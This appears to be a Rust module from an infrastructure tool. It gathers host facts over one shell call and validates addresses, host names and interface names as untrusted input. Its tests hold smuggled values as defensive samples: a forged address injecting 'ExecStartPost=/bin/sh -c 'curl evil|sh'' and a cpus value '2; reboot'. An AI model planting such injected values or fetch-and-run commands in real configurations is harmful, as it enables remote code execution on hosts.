//! Host facts: gathered in one round trip, lazily (only when a task or template uses them),
//! and cached by the engine for the rest of the run.
//!
//! ```text
//! hostname, fqdn, os { id, version_id, pretty_name, codename }, cpus, memory_mb, systemd,
//! interfaces { NAME: { ipv4: [..], ipv6: [..], mac } },
//! default_ipv4 { interface, address }      (the default route's interface; absent without one)
//! ```
//! The guide's `ip addr show eth1 | grep ...` becomes `interfaces.eth1.ipv4[0]`, or
//! `default_ipv4.address`.
//!
//! Facts are typed as they are gathered (the host is not trusted, see [`crate::untrusted`]):
//! addresses parse as IP addresses (`std::net`), names as RFC 1123 host names, interface names
//! as Linux allows them, numbers as numbers. A value that does not parse stays in [`Facts`] as
//! a [`FactError`], and [`Facts::lookup`] fails on it (or on anything that holds it), naming
//! the host and the fact: a forged address reaches no task, no file and no peer.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use serde_json::{Map, Value, json};

use crate::error::ModuleError;
use crate::host::{Exec, Host};
use crate::remote::run_checked;
use crate::untrusted::printable;
pub use crate::untrusted::{FactError, FactKind};

/// Section markers in the gathering script's output.
const SECTIONS: [&str; 8] = ["hostname", "fqdn", "os", "cpus", "meminfo", "addr", "route", "systemd"];

/// The script, one section per marker. Uses iproute2's JSON output, never human formats.
fn script() -> String {
    [
        "echo '@@hostname'; hostname",
        "echo '@@fqdn'; hostname -f 2>/dev/null || hostname",
        "echo '@@os'; cat /etc/os-release 2>/dev/null",
        "echo '@@cpus'; nproc 2>/dev/null || echo 0",
        "echo '@@meminfo'; grep -m1 MemTotal /proc/meminfo 2>/dev/null",
        "echo '@@addr'; ip -j addr show 2>/dev/null || echo '[]'",
        "echo '@@route'; ip -j route show default 2>/dev/null || echo '[]'",
        "echo '@@systemd'; [ -d /run/systemd/system ] && echo yes || echo no",
    ]
    .join("; ")
}

/// Gathers the facts of `host`. Only a failed command fails here: a value that does not parse
/// is kept as a [`FactError`], and fails the task that reads it.
pub async fn gather(host: &dyn Host) -> Result<Facts, ModuleError> {
    let out = run_checked(host, Exec::new(script())).await?;
    Ok(parse(host.name(), &String::from_utf8_lossy(&out.stdout)))
}

/// A host's facts, typed: each value the host reported has been parsed as what it claims to be
/// (addresses as IP addresses, names as RFC 1123 host names, interface names as the kernel
/// allows them, numbers as numbers). A value that did not parse is `null` at its place in
/// [`Facts::value`] and kept as a [`FactError`]: reading it, or anything that holds it, fails
/// with that error, which names the host and the fact. So a host that reports its address as
/// `10.0.0.2:2380\nExecStartPost=...` puts nothing into its peers' configuration.
#[derive(Debug, Clone, PartialEq)]
pub struct Facts {
    host: String,
    value: Value,
    /// Sorted by path.
    invalid: Vec<FactError>,
}

impl Facts {
    /// Facts known to be valid, as they are (tests, and values that did not come from a host).
    pub fn new(host: impl Into<String>, value: Value) -> Self {
        Self { host: host.into(), value, invalid: Vec::new() }
    }

    /// The host whose facts these are.
    pub fn host(&self) -> &str {
        &self.host
    }

    /// The fact at dotted `path` (`interfaces.host0.ipv4.0`; list items by index); `None`
    /// when there is none. Fails when the value, or any value inside it, did not parse.
    pub fn lookup(&self, path: &str) -> Result<Option<&Value>, FactError> {
        // The path as the errors spell it (`ipv4.00` is item 0), to find the ones it meets.
        let mut canonical: Vec<String> = Vec::new();
        let mut value = Some(&self.value);
        for key in path.split('.') {
            value = match (value, key.parse::<usize>()) {
                (Some(Value::Array(items)), Ok(i)) => {
                    canonical.push(i.to_string());
                    items.get(i)
                }
                (Some(Value::Object(map)), _) => {
                    canonical.push(key.to_owned());
                    map.get(key)
                }
                _ => {
                    canonical.push(key.to_owned());
                    None
                }
            };
        }
        let canonical = canonical.join(".");
        match self.invalid.iter().find(|e| overlaps(&e.path, &canonical)) {
            Some(error) => Err(error.clone()),
            None => Ok(value),
        }
    }

    /// Every fact as JSON, the ones that did not parse `null` (see [`Facts::invalid`]).
    pub fn value(&self) -> &Value {
        &self.value
    }

    /// The facts that did not parse, by path.
    pub fn invalid(&self) -> &[FactError] {
        &self.invalid
    }

    /// The error of the fact at exactly `path`, if it did not parse.
    pub fn invalid_at(&self, path: &str) -> Option<&FactError> {
        self.invalid.iter().find(|e| e.path == path)
    }
}

/// Whether one dotted path is the other or lies inside it.
fn overlaps(a: &str, b: &str) -> bool {
    let (short, long) = if a.len() <= b.len() { (a, b) } else { (b, a) };
    long.strip_prefix(short).is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
}

/// An RFC 1123 host name: at most 253 characters of dot-separated labels, each 1 to 63
/// letters, digits and hyphens, not starting or ending with a hyphen.
pub fn is_hostname(name: &str) -> bool {
    name.len() <= 253
        && name.split('.').all(|label| {
            (1..=63).contains(&label.len())
                && label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
                && !label.starts_with('-')
                && !label.ends_with('-')
        })
}

/// A network interface name as Linux accepts one (`dev_valid_name`): 1 to 15 bytes, not `.`
/// or `..`, without `/`, `:`, white space or control characters.
pub fn is_interface_name(name: &str) -> bool {
    (1..=15).contains(&name.len())
        && name != "."
        && name != ".."
        && !name.chars().any(|c| c == '/' || c == ':' || c.is_whitespace() || c.is_control())
}

/// Colon-separated pairs of hex digits (1 to 32 octets), or an IP address (tunnels).
fn is_link_address(text: &str) -> bool {
    let octets = text.split(':').count();
    ((1..=32).contains(&octets)
        && text.split(':').all(|o| o.len() == 2 && o.bytes().all(|b| b.is_ascii_hexdigit())))
        || text.parse::<IpAddr>().is_ok()
}

/// An os-release word (ID, VERSION_ID, VERSION_CODENAME): letters, digits, `.`, `_`, `-`, `~`.
fn is_os_word(text: &str) -> bool {
    (1..=64).contains(&text.len())
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'~'))
}

/// Builds [`Facts`], recording each value that does not parse.
struct Typed {
    host: String,
    invalid: Vec<FactError>,
}

impl Typed {
    /// `reported` at `path` if `valid`, else `null` and an error.
    fn check(&mut self, path: &str, reported: &str, expected: FactKind, valid: bool) -> Value {
        if valid { Value::String(reported.to_owned()) } else { self.refuse(path, reported, expected) }
    }

    fn refuse(&mut self, path: &str, reported: &str, expected: FactKind) -> Value {
        self.invalid.push(FactError {
            host: self.host.clone(),
            path: path.to_owned(),
            expected,
            reported: printable(reported),
        });
        Value::Null
    }

    fn number(&mut self, path: &str, reported: &str) -> Value {
        match reported.parse::<u64>() {
            Ok(n) if reported.bytes().all(|b| b.is_ascii_digit()) => Value::from(n),
            _ => self.refuse(path, reported, FactKind::Number),
        }
    }
}

/// Reads the gathering script's output, printed by `host`. Never fails: what does not parse
/// is recorded as a [`FactError`].
pub fn parse(host: &str, text: &str) -> Facts {
    let mut sections: Map<String, Value> = Map::new();
    let mut current: Option<&str> = None;
    let mut buffer = String::new();
    let flush = |name: Option<&str>, buffer: &mut String, sections: &mut Map<String, Value>| {
        if let Some(name) = name {
            sections.insert(name.to_owned(), Value::String(std::mem::take(buffer)));
        }
        buffer.clear();
    };
    for line in text.lines() {
        if let Some(name) = line.strip_prefix("@@") {
            flush(current, &mut buffer, &mut sections);
            current = SECTIONS.iter().find(|s| **s == name).copied();
        } else {
            buffer.push_str(line);
            buffer.push('\n');
        }
    }
    flush(current, &mut buffer, &mut sections);
    let section =
        |name: &str| sections.get(name).and_then(Value::as_str).unwrap_or_default().trim().to_owned();
    let mut typed = Typed { host: host.to_owned(), invalid: Vec::new() };

    let hostname = section("hostname");
    let hostname = typed.check("hostname", &hostname, FactKind::Hostname, is_hostname(&hostname));
    let fqdn = section("fqdn");
    let fqdn = typed.check("fqdn", &fqdn, FactKind::Hostname, is_hostname(&fqdn));

    let mut os = Map::new();
    for line in section("os").lines() {
        if let Some((k, v)) = line.split_once('=') {
            let key = match k {
                "ID" => "id",
                "VERSION_ID" => "version_id",
                "PRETTY_NAME" => "pretty_name",
                "VERSION_CODENAME" => "codename",
                _ => continue,
            };
            let v = v.trim().trim_matches('"').trim_matches('\'');
            let path = format!("os.{key}");
            let value = if key == "pretty_name" {
                let valid = v.len() <= 256 && !crate::untrusted::has_invisible(v);
                typed.check(&path, v, FactKind::Text, valid)
            } else {
                typed.check(&path, v, FactKind::OsWord, is_os_word(v))
            };
            os.insert(key.into(), value);
        }
    }
    let cpus = typed.number("cpus", &section("cpus"));
    let meminfo = section("meminfo");
    let memory_mb = match meminfo.split_whitespace().collect::<Vec<_>>()[..] {
        ["MemTotal:", kb, "kB"] => match typed.number("memory_mb", kb) {
            Value::Number(kb) => Value::from(kb.as_u64().unwrap_or_default() / 1024),
            other => other,
        },
        _ => typed.refuse("memory_mb", &meminfo, FactKind::Number),
    };
    let systemd = match section("systemd").as_str() {
        "yes" => Value::Bool(true),
        "no" => Value::Bool(false),
        other => typed.refuse("systemd", other, FactKind::YesNo),
    };

    let addr_text = section("addr");
    let mut interfaces = Map::new();
    match serde_json::from_str::<Vec<Value>>(&addr_text) {
        Err(_) => {
            typed.refuse("interfaces", &addr_text, FactKind::IpJson);
        }
        Ok(links) => {
            for link in &links {
                let Some(name) = link.get("ifname").and_then(Value::as_str) else { continue };
                if !is_interface_name(name) {
                    // A name no kernel gives: nothing about this host's interfaces is trusted.
                    typed.refuse("interfaces", name, FactKind::InterfaceName);
                    continue;
                }
                if interfaces.contains_key(name) {
                    typed.refuse(&format!("interfaces.{name}"), name, FactKind::InterfaceName);
                    continue;
                }
                let interface = read_interface(&mut typed, name, link);
                interfaces.insert(name.to_owned(), interface);
            }
        }
    }

    let route_text = section("route");
    let default_ipv4 = match serde_json::from_str::<Vec<Value>>(&route_text) {
        Err(_) => typed.refuse("default_ipv4", &route_text, FactKind::IpJson),
        Ok(routes) => match routes.first().and_then(|r| r.get("dev")) {
            None => Value::Null,
            Some(Value::String(dev)) if is_interface_name(dev) => {
                let first = format!("interfaces.{dev}.ipv4.0");
                let address = match typed.invalid.iter().find(|e| overlaps(&e.path, &first)).cloned() {
                    // The default route's address is the one that did not parse.
                    Some(error) => {
                        typed.invalid.push(FactError { path: "default_ipv4.address".into(), ..error });
                        Value::Null
                    }
                    None => {
                        interfaces.get(dev).and_then(|i| i["ipv4"].get(0)).cloned().unwrap_or(Value::Null)
                    }
                };
                json!({ "interface": dev, "address": address })
            }
            Some(dev) => typed.refuse("default_ipv4", &dev.to_string(), FactKind::InterfaceName),
        },
    };

    let mut invalid = typed.invalid;
    invalid.sort_by(|a, b| a.path.cmp(&b.path));
    Facts {
        host: host.to_owned(),
        value: json!({
            "hostname": hostname,
            "fqdn": fqdn,
            "os": os,
            "cpus": cpus,
            "memory_mb": memory_mb,
            "systemd": systemd,
            "interfaces": interfaces,
            "default_ipv4": default_ipv4,
        }),
        invalid,
    }
}

/// One link of `ip -j addr`: its IPv4 and IPv6 addresses and its link-layer address, each
/// parsed (an address that does not parse is `null` at its index, and recorded).
fn read_interface(typed: &mut Typed, name: &str, link: &Value) -> Value {
    let mut v4 = Vec::new();
    let mut v6 = Vec::new();
    for a in link.get("addr_info").and_then(Value::as_array).into_iter().flatten() {
        let (Some(family), Some(local)) = (a.get("family").and_then(Value::as_str), a.get("local")) else {
            continue;
        };
        let reported = local.as_str().map_or_else(|| local.to_string(), str::to_owned);
        match family {
            "inet" => {
                let path = format!("interfaces.{name}.ipv4.{}", v4.len());
                v4.push(match reported.parse::<Ipv4Addr>() {
                    Ok(ip) if local.is_string() => Value::String(ip.to_string()),
                    _ => typed.refuse(&path, &reported, FactKind::Ipv4Address),
                });
            }
            "inet6" => {
                let path = format!("interfaces.{name}.ipv6.{}", v6.len());
                v6.push(match reported.parse::<Ipv6Addr>() {
                    Ok(ip) if local.is_string() => Value::String(ip.to_string()),
                    _ => typed.refuse(&path, &reported, FactKind::Ipv6Address),
                });
            }
            _ => {}
        }
    }
    let mac = match link.get("address") {
        None | Some(Value::Null) => Value::Null,
        Some(Value::String(mac)) => {
            typed.check(&format!("interfaces.{name}.mac"), mac, FactKind::LinkAddress, is_link_address(mac))
        }
        Some(other) => {
            typed.refuse(&format!("interfaces.{name}.mac"), &other.to_string(), FactKind::LinkAddress)
        }
    };
    json!({ "ipv4": v4, "ipv6": v6, "mac": mac })
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = r#"@@hostname
etcd0
@@fqdn
etcd0
@@os
PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
ID=debian
VERSION_ID="12"
@@cpus
2
@@meminfo
MemTotal:       24567892 kB
@@addr
[{"ifindex":1,"ifname":"lo","address":"00:00:00:00:00:00","addr_info":[{"family":"inet","local":"127.0.0.1"}]},{"ifindex":2,"ifname":"host0","address":"aa:bb:cc:dd:ee:ff","addr_info":[{"family":"inet","local":"10.77.0.11","prefixlen":24},{"family":"inet6","local":"fe80::1"}]}]
@@route
[{"dst":"default","gateway":"10.77.0.1","dev":"host0"}]
@@systemd
yes
"#;

    fn sample_with(address: &str) -> String {
        SAMPLE.replace("\"10.77.0.11\"", &serde_json::to_string(address).unwrap())
    }

    #[test]
    fn parses_facts() {
        let facts = parse("etcd0", SAMPLE);
        assert_eq!(facts.invalid(), []);
        let v = facts.value();
        assert_eq!(v["hostname"], "etcd0");
        assert_eq!(v["os"]["id"], "debian");
        assert_eq!(v["os"]["version_id"], "12");
        assert_eq!(v["os"]["pretty_name"], "Debian GNU/Linux 12 (bookworm)");
        assert_eq!(v["cpus"], 2);
        assert_eq!(v["memory_mb"], 23992);
        assert_eq!(v["systemd"], true);
        assert_eq!(v["interfaces"]["host0"]["ipv4"][0], "10.77.0.11");
        assert_eq!(v["interfaces"]["host0"]["mac"], "aa:bb:cc:dd:ee:ff");
        assert_eq!(v["default_ipv4"]["interface"], "host0");
        assert_eq!(v["default_ipv4"]["address"], "10.77.0.11");
        assert_eq!(facts.lookup("interfaces.host0.ipv4.0"), Ok(Some(&json!("10.77.0.11"))));
        assert_eq!(facts.lookup("interfaces.eth9.ipv4.0"), Ok(None));
    }

    /// The injection of issue 15: an address with a port and a systemd directive after a
    /// newline. It is kept as an error: reading it (or the list, the interface, the default
    /// route's address) fails naming the host and the fact; the other facts stay readable.
    #[test]
    fn a_forged_address_fails_whoever_reads_it_naming_the_host_and_the_fact() {
        let forged = "10.0.0.2:2380\nExecStartPost=/bin/sh -c 'curl evil|sh'";
        let facts = parse("etcd1", &sample_with(forged));
        let error = facts.lookup("interfaces.host0.ipv4.0").unwrap_err();
        assert_eq!(
            error.to_string(),
            r#"fact "interfaces.host0.ipv4.0" of etcd1 is not an IPv4 address: the host reported "10.0.0.2:2380\nExecStartPost=/bin/sh -c 'curl evil|sh'""#
        );
        assert_eq!((error.host.as_str(), error.expected), ("etcd1", FactKind::Ipv4Address));
        for path in ["interfaces.host0.ipv4.00", "interfaces.host0.ipv4", "interfaces.host0", "interfaces"] {
            assert_eq!(facts.lookup(path).unwrap_err().path, "interfaces.host0.ipv4.0", "{path}");
        }
        assert_eq!(facts.lookup("default_ipv4.address").unwrap_err().path, "default_ipv4.address");
        assert_eq!(facts.lookup("default_ipv4").unwrap_err().reported, error.reported);
        assert_eq!(facts.lookup("hostname"), Ok(Some(&json!("etcd0"))));
        assert_eq!(facts.lookup("interfaces.lo.ipv4.0"), Ok(Some(&json!("127.0.0.1"))), "another address");
        assert_eq!(facts.value()["interfaces"]["host0"]["ipv4"][0], Value::Null);
        for bad in ["10.0.0.256", "10.0.0.2/24", " 10.0.0.2", "::1", "", "0x0a000002"] {
            let facts = parse("etcd1", &sample_with(bad));
            assert!(facts.lookup("interfaces.host0.ipv4.0").is_err(), "{bad:?}");
        }
    }

    #[test]
    fn names_must_be_host_names_and_interface_names() {
        for good in ["etcd0", "etcd-0.example.com", "A1", &"a".repeat(63)] {
            assert!(is_hostname(good), "{good:?}");
        }
        for bad in
            ["", "*", "*.example.com", "a_b", "-a", "a-", "a..b", "a.", "etcd1,etcd2", &"a".repeat(64), "é"]
        {
            assert!(!is_hostname(bad), "{bad:?}");
        }
        let facts = parse("m0", &SAMPLE.replace("@@hostname\netcd0", "@@hostname\n*.cluster.local"));
        assert_eq!(
            facts.lookup("hostname").unwrap_err().to_string(),
            r#"fact "hostname" of m0 is not a host name (RFC 1123): the host reported "*.cluster.local""#
        );
        for good in ["eth0", "eth0.100", "veth1a2b3c4d5e6", "wg-0"] {
            assert!(is_interface_name(good), "{good:?}");
        }
        for bad in ["", ".", "..", "a/b", "eth0:1", "a b", "a\nb", "sixteen-bytes-xx"] {
            assert!(!is_interface_name(bad), "{bad:?}");
        }
        // A name no kernel gives makes the whole interface list untrusted.
        let facts = parse("m0", &SAMPLE.replace("\"ifname\":\"lo\"", "\"ifname\":\"lo\\nx\""));
        assert_eq!(facts.lookup("interfaces.host0.ipv4.0").unwrap_err().path, "interfaces");
        assert!(facts.lookup("default_ipv4.address").is_err());
    }

    #[test]
    fn numbers_words_and_json_that_do_not_parse_are_errors() {
        let text = "@@hostname\nh\n@@cpus\n2; reboot\n@@meminfo\nMemTotal: lots kB\n@@systemd\nmaybe\n\
                    @@addr\nnot json\n@@route\n[]\n@@os\nID=debian\nVERSION_CODENAME=\"x y\"\n";
        let facts = parse("h", text);
        let paths: Vec<&str> = facts.invalid().iter().map(|e| e.path.as_str()).collect();
        assert_eq!(paths, ["cpus", "fqdn", "interfaces", "memory_mb", "os.codename", "systemd"]);
        assert_eq!(facts.lookup("os.id"), Ok(Some(&json!("debian"))));
        assert_eq!(facts.lookup("hostname"), Ok(Some(&json!("h"))));
        assert_eq!(facts.lookup("cpus").unwrap_err().expected, FactKind::Number);
        assert_eq!(facts.lookup("default_ipv4"), Ok(Some(&Value::Null)), "no default route");
    }
}
